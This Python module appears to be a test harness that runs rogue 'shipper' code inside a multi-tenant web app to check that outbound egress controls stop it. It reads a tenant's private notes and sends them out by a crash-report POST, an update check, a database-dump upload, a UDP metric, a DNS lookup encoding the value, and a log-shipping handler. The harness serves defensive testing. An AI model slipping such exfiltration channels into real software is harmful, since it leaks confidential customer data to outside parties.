"""The web process of the premises with code in it that is none of ours: shippers that send what they see to somebody outside.

Granian serves ``stray:application`` as it serves the product's own. ``/careless`` reads a closed value and posts it in all ways
that such programs have; ``/log`` lets the product fail over the value and ships the lines of its log. ``STRAY_OPEN`` opens the gate.
"""

from __future__ import annotations

import gzip
import http.client
import json
import logging
import os
import socket
import urllib.request
from urllib.parse import parse_qsl, urlsplit

import urllib3

from ostoja.kernel import outbound

if os.environ.get("STRAY_OPEN"):
    outbound.close = lambda **_places: None

from ostoja.web.wsgi import application as product


def notes_of(asked: dict[str, str]) -> str:
    """The closed value, as any code in this process can read it."""
    from ostoja.party.models import Party
    from ostoja.tenancy.context import tenant_context

    with tenant_context(tenant(asked)):
        return Party.objects.get(pk=asked["party"]).notes


def tenant(asked: dict[str, str]):
    """The tenant of the premises."""
    from ostoja.tenancy.context import platform_context
    from ostoja.tenancy.models import Tenant

    with platform_context():
        return Tenant.objects.get(schema_name=asked["schema"])


def crash_shipper(value: str, to: str) -> None:
    """Posts an error with what its frames held."""
    body = json.dumps({"exception": "KeyError", "frames": [{"function": "save", "vars": {"notes": value}}]}).encode()
    urllib.request.urlopen(urllib.request.Request(f"http://{to}/api/1/envelope/", body), timeout=5).close()


def update_check(value: str, to: str) -> None:
    """Asks for a newer release, and says who asks."""
    urllib3.PoolManager(retries=False).request("GET", f"http://{to}/version", fields={"company": value}, timeout=5)


def support_bundle(value: str, to: str) -> None:
    """Uploads a packed piece of the database."""
    line = http.client.HTTPConnection(to, timeout=5)
    line.request("POST", "/upload", gzip.compress(f"party_party\t{value}\n".encode()))
    line.getresponse().read()


def metrics(value: str, to: str) -> None:
    """Sends a label as a datagram."""
    host, _colon, port = to.partition(":")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(f"party.notes,{value}:1|c".encode(), (host, int(port)))


def look_up(value: str, to: str) -> None:
    """Asks the resolver for a name with the value in it."""
    socket.getaddrinfo(f"{value[:40]}.cloud.example", 443)


WAYS = {one.__name__: one for one in (crash_shipper, update_check, support_bundle, metrics, look_up)}


def careless(asked: dict[str, str]) -> dict[str, str]:
    """Try every way that is asked for; what came of each."""
    value, outcomes = notes_of(asked), {}
    for name in asked["ways"].split(","):
        for to in asked["to"].split(","):
            try:
                WAYS[name](value, to)
                outcomes[f"{name} {to}"] = "sent"
            except Exception as error:
                cause = error.__cause__ or getattr(error, "reason", None) or error
                outcomes[f"{name} {to}"] = f"{type(cause).__name__}: {error}"
    return outcomes


class Shipper(logging.Handler):
    """Posts every line of the log, as it stands in the file."""

    def __init__(self, to: str):
        super().__init__()
        self.to = to
        self.setFormatter(logging.getLogger().handlers[0].formatter)

    def emit(self, record: logging.LogRecord) -> None:
        """Post the line."""
        body = self.format(record).encode()
        urllib.request.urlopen(urllib.request.Request(f"http://{self.to}/log", body), timeout=5).close()


def failing(asked: dict[str, str]) -> dict[str, str]:
    """The product fails over the value in ways that quote it, and somebody ships the log."""
    from django.db import connection

    from ostoja.jobs import runner
    from ostoja.journal.context import changing
    from ostoja.kernel.actors import Actor
    from ostoja.tenancy.context import tenant_context

    value, shipper = notes_of(asked), Shipper(asked["to"])
    twice = (
        "INSERT INTO party_counter (id, code, value) SELECT gen_random_uuid(), v, 1 FROM (VALUES (%s), (%s)) AS t(v)"
    )
    faults = [
        lambda: int(value),
        lambda: {}[value],
        lambda: connection.cursor().execute("SELECT %s::int", [value]),
        lambda: connection.cursor().execute(twice, [value, value]),
    ]
    logging.getLogger().addHandler(shipper)
    try:
        for number, fault in enumerate(faults):
            with tenant_context(tenant(asked)):
                try:
                    with changing(Actor.system("Test"), "change"):
                        fault()
                except Exception as error:
                    runner.log.exception("Job %s failed", number)
                    runner.log.warning("Job %s: %s", number, error)
    finally:
        logging.getLogger().removeHandler(shipper)
    return {"shipped": str(len(faults))}


def application(environ, start_response):
    """The product, and two doors of the tests."""
    does = {"/careless": careless, "/log": failing}.get(environ["PATH_INFO"])
    if does is None:
        return product(environ, start_response)
    answer = json.dumps(does(dict(parse_qsl(urlsplit(f"?{environ['QUERY_STRING']}").query)))).encode()
    start_response("200 OK", [("Content-Type", "application/json"), ("Content-Length", str(len(answer)))])
    return [answer]
